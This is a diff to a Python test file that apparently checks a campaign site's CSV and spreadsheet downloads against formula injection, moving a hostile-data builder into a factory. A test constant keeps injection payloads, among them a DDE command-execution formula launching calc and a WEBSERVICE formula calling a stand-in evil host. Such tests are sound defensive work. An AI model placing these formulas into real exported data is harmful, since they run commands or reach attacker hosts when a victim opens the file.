@@ -13,10 +13,8 @@ from flask import Flask
 
 from campagne.domain.answer_rows import NUMBERS
 from campagne.domain.csv_files import BOM, csv_text
-from campagne.domain.published import Publication
 from tests.factories.editions import correct, publish
-from tests.factories.hostile import CELLS, CONTROLS, DIRECTIONS, FORMULAS, MARKUP, unguarded
-from tests.factories.published import comparison
+from tests.factories.hostile import CONTROLS, publication, unguarded
 from tests.fixtures.client import CheckedClient
 from tests.fixtures.office import CSV, Convert, OfficeCell
 from tests.web.public.conftest import NATIONAL
@@ -24,7 +22,6 @@ from tests.web.public.test_downloads import sheet
 
 pytestmark = pytest.mark.office
 
-TEXTS = (*FORMULAS, *CELLS, *MARKUP, *DIRECTIONS)
 RUN = ("=1+1", "Oui,=1+1", "Oui\t=1+1", "=cmd|' /C calc'!A0", '=WEBSERVICE("https://evil.example.org")')
 COUNTED = NUMBERS | {"de_edition", "a_edition", "numero", "panneau", "rang", "candidatures", "reponses"}
 COUNTED |= {"ajoutees", "modifiees", "retirees", "jours_pour_repondre"}
@@ -41,27 +38,10 @@ FILES = {
 BOOKS = {"long.xlsx": "donnees/reponses.xlsx", "large.xlsx": "donnees/reponses.xlsx?forme=large"}
 
 
-def hostile() -> Publication:
-    """Return a comparison in which every word of somebody else is of the corpus, each text of it once at least."""
-    plain = comparison()
-    people = [
-        replace(c, first_name="", last_name=FORMULAS[n], label=FORMULAS[-n], nuance="=1+1", opening=CELLS[n])
-        for n, c in enumerate(plain.candidacies)
-    ]
-    questions = [replace(q, short_title=f"={q.number}+1", text=FORMULAS[q.number]) for q in plain.questions]
-    assert len(plain.answers) >= len(TEXTS)
-    answers = [
-        replace(a, text=TEXTS[n % len(TEXTS)], label=FORMULAS[n % len(FORMULAS)]) for n, a in enumerate(plain.answers)
-    ]
-    facts = replace(plain.campaign, title="=1+1;2,3", organisation='@SUM(A1) & "amis"')
-    edition = replace(plain.edition, digest="a6" * 32)
-    return replace(plain, campaign=facts, edition=edition, candidacies=people, questions=questions, answers=answers)
-
-
 @pytest.fixture(autouse=True)
 def published(app: Flask) -> None:
     """Two editions of the hostile comparison."""
-    first = hostile()
+    first = publication()
     publish(app, first)
     later = replace(first, edition=replace(first.edition, number=7, added=0, changed=1))
     correct(app, later, replace(first.answers[0], text="=2+2", revision=2))
